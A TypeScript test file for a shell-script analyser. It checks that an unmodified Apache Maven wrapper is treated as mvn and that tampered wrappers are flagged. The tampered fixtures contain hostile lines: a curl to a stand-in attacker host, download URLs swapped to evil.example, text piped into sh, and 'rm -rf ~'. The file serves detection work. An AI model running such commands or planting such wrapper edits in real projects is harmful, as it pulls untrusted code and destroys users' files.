// The standard Maven wrapper is judged as mvn; an edited copy, a wrapper that downloads from elsewhere, or one that
// would compile the project's own downloader stays a shell script that is read. The files are a table in memory.
import { beforeAll, describe, expect, it } from 'vitest';
import { loadShellParser } from '../parse/load-parser';
import { fileProject } from '../testdata/file-project';
import type { ScriptFile } from '../types';
import { standardMavenWrapper } from './maven-wrapper';

const P = '/home/u/proj';
const text = (t: string): ScriptFile => ({ kind: 'text', text: t });

/** The shape of the script-only wrapper: markers, the download of `$distributionUrl`, `exec_maven` at the end. */
const SCRIPT_ONLY = [
  '#!/bin/sh',
  '# Apache Maven Wrapper startup batch script, version 3.3.2',
  'set -euf',
  'die() { printf %s\\\\n "$1" >&2; exit 1; }',
  'scriptDir="$(dirname "$0")"',
  'while IFS="=" read -r key value; do',
  '  case "${key-}" in distributionUrl) distributionUrl="$value" ;; esac',
  'done <"$scriptDir/.mvn/wrapper/maven-wrapper.properties"',
  'MAVEN_HOME="$HOME/.m2/wrapper/dists/x"',
  'exec_maven() { exec "$MAVEN_HOME/bin/mvn" "$@" || die "cannot exec mvn"; }',
  'if [ -d "$MAVEN_HOME" ]; then exec_maven "$@"; fi',
  'TMP_DOWNLOAD_DIR="$(mktemp -d)"',
  'if [ -z "${MVNW_USERNAME-}" ] && command -v wget >/dev/null; then',
  '  verbose "Found wget ... using wget"',
  '  wget --quiet "$distributionUrl" -O "$TMP_DOWNLOAD_DIR/m.zip" || die "wget: Failed to fetch $distributionUrl"',
  'elif [ -z "${MVNW_USERNAME-}" ] && command -v curl >/dev/null; then',
  '  curl -f -L -o "$TMP_DOWNLOAD_DIR/m.zip" "$distributionUrl" || die "curl: Failed to fetch $distributionUrl"',
  'fi',
  'unzip -q "$TMP_DOWNLOAD_DIR/m.zip" -d "$TMP_DOWNLOAD_DIR" || die "failed to unzip"',
  'mv -- "$TMP_DOWNLOAD_DIR/apache-maven" "$MAVEN_HOME"',
  'exec_maven "$@"',
  '',
].join('\n');

/** The shape of the jar wrapper: it fetches the jar from `$wrapperUrl` when it is missing, then runs its main class. */
const JAR_MODE = [
  '#!/bin/sh',
  '# Apache Maven Wrapper startup batch script, version 3.2.0',
  'wrapperJarPath="$MAVEN_PROJECTBASEDIR/.mvn/wrapper/maven-wrapper.jar"',
  'if [ ! -r "$wrapperJarPath" ]; then',
  '  if command -v wget > /dev/null; then',
  '    wget --quiet "$wrapperUrl" -O "$wrapperJarPath" || rm -f "$wrapperJarPath"',
  '  fi',
  'fi',
  'exec "$JAVACMD" -classpath "$wrapperJarPath" org.apache.maven.wrapper.MavenWrapperMain "$@"',
  '',
].join('\n');

const DIST =
  'distributionUrl=https\\://repo.maven.apache.org/maven2/org/apache/maven/apache-maven/3.9.9/apache-maven-3.9.9-bin.zip\n';
const JAR =
  'wrapperUrl=https://repo.maven.apache.org/maven2/org/apache/maven/wrapper/maven-wrapper/3.2.0/maven-wrapper-3.2.0.jar\n';
const MAIN = text('PK\u0003\u0004....org/apache/maven/wrapper/MavenWrapperMain.class....');

function wrapper(dir: string, script: string, props: string, extra: Record<string, ScriptFile> = {}) {
  return {
    [`${P}/${dir}/mvnw`]: text(script),
    [`${P}/${dir}/.mvn/wrapper/maven-wrapper.properties`]: text(props),
    [`${P}/${dir}/pom.xml`]: text('<project><modelVersion>4.0.0</modelVersion></project>\n'),
    ...Object.fromEntries(Object.entries(extra).map(([k, v]) => [`${P}/${dir}/${k}`, v])),
  };
}

const FILES: Record<string, ScriptFile> = {
  ...wrapper('only', SCRIPT_ONLY, DIST),
  ...wrapper('jar', JAR_MODE, DIST + JAR, { '.mvn/wrapper/maven-wrapper.jar': MAIN }),
  ...wrapper('nojar', JAR_MODE, DIST + JAR),
  ...wrapper('extrafetch', `${SCRIPT_ONLY}x=$(curl -s https://evil.example/p)\n`, DIST),
  ...wrapper('otherurl', SCRIPT_ONLY.replace('"$distributionUrl" -O', 'https://evil.example/m.zip -O'), DIST),
  ...wrapper('piped', `${SCRIPT_ONLY}printf 'id' | sh\n`, DIST),
  ...wrapper('python', `${SCRIPT_ONLY}python3 -c 'print(1)'\n`, DIST),
  ...wrapper('deleter', `${SCRIPT_ONLY}rm -rf ~\n`, DIST),
  ...wrapper('evilhost', SCRIPT_ONLY, 'distributionUrl=https://evil.example/apache-maven-3.9.9-bin.zip\n'),
  ...wrapper('eviljar', JAR_MODE, `${DIST}wrapperUrl=https://evil.example/maven-wrapper.jar\n`),
  ...wrapper('downloader', JAR_MODE, DIST + JAR, {
    '.mvn/wrapper/MavenWrapperDownloader.java': text('public class MavenWrapperDownloader {}\n'),
  }),
  ...wrapper('badjar', JAR_MODE, DIST + JAR, {
    '.mvn/wrapper/maven-wrapper.jar': text('PK\u0003\u0004evil'),
  }),
  ...wrapper('unmarked', SCRIPT_ONLY.replace('Apache Maven Wrapper', 'My'), DIST),
  [`${P}/noprops/mvnw`]: text(SCRIPT_ONLY),
};

const read = (path: string): ScriptFile => FILES[path] ?? { kind: 'missing' };
const { at, categories } = fileProject(P, FILES);
const readAsScript = (dir: string) =>
  at(dir, './mvnw test').segments.some((g) => g.wrappers.some((x) => x.includes('script file')));

beforeAll(async () => {
  await loadShellParser();
});

describe('the standard Maven wrapper is judged as mvn', () => {
  it.each(['only', 'jar', 'nojar'])('%s: recognised, the script is not read as a shell script', (dir) => {
    expect(standardMavenWrapper(`${P}/${dir}/mvnw`, read)).toBe(true);
    expect(readAsScript(dir)).toBe(false);
    expect(categories(at(dir, './mvnw -q verify'))).toEqual([]);
  });
});

describe('a wrapper that is not the standard one is read as the script it is', () => {
  it.each([
    ['extrafetch', 'a second download of another URL'],
    ['otherurl', 'the download names a URL of its own'],
    ['piped', 'text piped into a shell'],
    ['python', 'another interpreter'],
    ['deleter', 'an added line'],
    ['evilhost', 'the distribution from another host'],
    ['eviljar', 'the wrapper jar from another host'],
    ['downloader', "the project's own downloader source beside it"],
    ['badjar', 'a jar without the wrapper main class'],
    ['unmarked', 'no wrapper marker'],
    ['noprops', 'no properties file'],
  ])('%s (%s)', (dir) => {
    expect(standardMavenWrapper(`${P}/${dir}/mvnw`, read)).toBe(false);
    expect(readAsScript(dir)).toBe(true);
  });

  it('an added deletion is still the floor category', () => {
    expect(categories(at('deleter', './mvnw test'))).toContain('destructive_root_delete');
  });
});
